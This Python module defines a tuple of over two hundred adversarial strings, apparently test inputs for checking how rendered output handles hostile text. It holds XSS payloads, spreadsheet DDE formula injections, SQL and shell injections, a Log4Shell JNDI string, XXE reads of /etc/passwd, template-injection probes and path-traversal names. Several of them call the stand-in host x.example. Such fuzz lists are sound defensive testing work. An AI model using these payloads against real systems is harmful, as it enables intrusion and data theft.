"""More than two hundred texts that try to be something else where they are shown, each of them once."""

from __future__ import annotations

_CORES = (
    '<script>alert(1)</script>', '</title><script>alert(1)</script>', '<img src=x onerror=alert(1)>',
    '" onload="alert(1)', "' onmouseover='alert(1)", '<svg/onload=alert(1)>', '</svg><script>1</script>',
    ']]><script>1</script>', '<!-- ', '-->', '&lt;b&gt;', '&#x3c;script&#x3e;', '{{ 7*7 }}',
    "{% include 'x' %}", '{{ page.__class__ }}', '${7*7}', '#{7*7}', '#import "x.typ"', '#eval("1")',
    '#read("/etc/passwd")', '#panic()', '*bold* _it_ `raw` $x^2$', '= Heading', '@label', '<label>', '\\u{41}',
    '// comment', '/* comment', '$\\alpha$', '$$', '$\\frac{1}{', '\\input{x}', '=1+1', "=cmd|' /C calc'!A0",
    '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1', '－1', '＠x',
    '=HYPERLINK("http://x","y")', 'a","b', 'a;b', 'a\r\nb', 'a\nb', 'a\tb', '\x00', 'a\x00b', '\x1b[31mred',
    '\x07', '\x7f', '\x85', '\u2028', '\u2029', '\ufeff=1+1', '\u200b=1+1', '\u202eevil\u202c', '\u2066x\u2069',
    '\u200f', '\ud800', 'a\udfffb', '\uffff', '\ufdd0', '\ue000', '\U000f0000', '\U0010ffff', '\u0378', 'é',
    'e\u0301', "Z" + "\u0301" * 60, '\u0301', 'œuvre « à » l’été', '日本語', '中文測試', '한국어', 'العربية', 'עברית',
    'हिन्दी', 'ไทย', '\U0001f600', '\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466',
    '\U0001f1eb\U0001f1f7', '❤️', '\U0001f3f3\ufe0f\u200d\U0001f308', "x" * 300, "long " * 80,
    "https://example.org/" + "a" * 200, '../../etc/passwd', '..\\..\\x', '/etc/passwd', 'CON', 'nul.csv', 'a/b',
    'a\\b', '%00', '%2e%2e%2f', 'javascript:alert(1)', 'data:text/html,<script>1</script>', "' OR 1=1 --", '',
    ' ', '  ', 'None', 'null', 'NaN', '0', '-0', '1e999', '{', '}', '{}', '{0}', '{x}', '%s', '%(x)s', '\\',
    '\\n', "'", '"', '`', '|', '~',
)  # fmt: skip

_MORE = (
    # scripts, in every place a page has
    "<ScRiPt>alert(1)</sCrIpT>", "<script src=//x.example></script>", "<script\x0b>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//x.example>",
    "<base href=//x.example>", "<meta http-equiv=refresh content=0;url=//x.example>", "<link rel=stylesheet href=//x>",
    "<form action=//x.example><input type=submit>", "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<math><mtext></form><script>alert(1)</script>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg/onload=alert(1)>'/></svg>", "<body onload=alert(1)>",
    "<style>@import '//x.example'</style>", "<style>*{background:url(//x.example)}</style>",
    "<a href=\"java\tscript:alert(1)\">x</a>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<textarea></textarea><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>", "<?php system('x') ?>", "<%= 7*7 %>", "<!--[if IE]><script>1</script>",
    # attributes and styles
    "\" autofocus onfocus=alert(1) x=\"", "' style='background:url(//x.example)", "\"><img src=x onerror=alert(1)>",
    "x\" style=\"position:fixed;inset:0", "`onmouseover=alert(1)`", "a=b onx=alert(1) ", "</style><script>1</script>",
    "expression(alert(1))", "}*{display:none}", "; background: url(javascript:1)", "content: \"\\3c script\"",
    # addresses
    "JaVaScRiPt:alert(1)", "&#106;avascript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=",
    "//x.example", "file:///etc/passwd", "http://[::1]/", "http://x.example@y.example/", "http://x.example/%0d%0aX: y",
    "https://xn--80ak6aa92e.com", "blob:null/1", "about:blank#<script>", "ftp://x/;type=a",
    # entities and encodings
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#0;", "&#xD800;", "&notit;", "&nbsp;&shy;",
    "%3Cscript%3E", "\\x3cscript\\x3e", "\\u003cscript\\u003e", "+ADw-script+AD4-", "\u2039script\u203a",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<\u200bscript>", "<\u00adscript>",
    # formulas
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(1+1)*cmd|' /C calc'!A0", "=IMPORTXML(\"http://x.example\",\"//a\")",
    "=WEBSERVICE(\"http://x.example\")", "+cmd|' /C notepad'!A1", "-2+3+cmd|' /C calc'!D2", "\u00a0=1+1", "\u3000=1+1",
    "\u2028=1+1", "'=1+1", "\"=1+1\"", "\u202e=1+1", "\u0301=1+1", "%0A=1+1", "=1+1\x00", "\uff1dSUM(1)", "\u207b1",
    # Typst, LaTeX, mathtext, shells, SQL, templates, format strings
    "#{ 1 + 1 }", "#set page(width: 1pt)", "#include \"x\"", "#link(\"http://x.example\")[x]", "]#panic()[", "]]]]]]",
    "#show: none", "\\write18{id}", "\\def\\x{\\x\\x}\\x", "$\\mathrm{x}^{y_{z}}$", "$_$ $^$", "$(id)", "`id`", "; id",
    "&& id", "| id", "'; DROP TABLE leads; --", "\" OR \"\"=\"", "{{ config.items() }}", "{{''.__class__.__mro__}}",
    "{%raw%}", "{0.__class__}", "{x!r:>99999}", "%n%n%n", "%99999d", "{" * 50, "${jndi:ldap://x.example/a}",
    # XML bombs and PDF
    "<!DOCTYPE x [<!ENTITY a \"aaaa\">]>", "<!ENTITY % x SYSTEM \"file:///etc/passwd\">%x;", "&a;&a;&a;",
    "<xi:include href='/etc/passwd'/>", "%PDF-1.7", "endstream endobj", "/OpenAction << /S /JavaScript >>", "(\\) Tj",
    # directions, marks, emoji, lengths
    "abc\u202edef\u202cghi", "\u2067right\u2069 left", "\u200f\u200e\u061c", "a" + "\u0336" * 40, "\u0e33" * 30,
    "\U0001f468\U0001f3fd\u200d\U0001f680", "\U0001f3f4\U000e0067\U000e0062\U000e007f", "1\ufe0f\u20e3",
    "\U0001f1e6" * 7, "\u200d\u200d\u200d", "\ufe0f", "\U0001f3ff", "\ud83d", "\ude00\ud83d", "\ufffe", "\ufffd" * 9,
    "\u1680\u2003\u205f", "\U000e0041" * 20, "W" * 2000, "W\u00ad" * 300, "a\u200b" * 300, "é" * 500, "﷽" * 20,
    # names of files
    "..", "....//....//etc/passwd", "C:\\Windows\\x", "\\\\host\\share", "aux", "LPT1.txt", "x.csv\x00.png", "name.",
    "name ", "~/.ssh/id_rsa", "-rf", "--out=/", "*", "?", "con.tables.csv", "a:b", "/dev/null",
)  # fmt: skip

TEXTS = tuple(dict.fromkeys((*_CORES, *_MORE)))
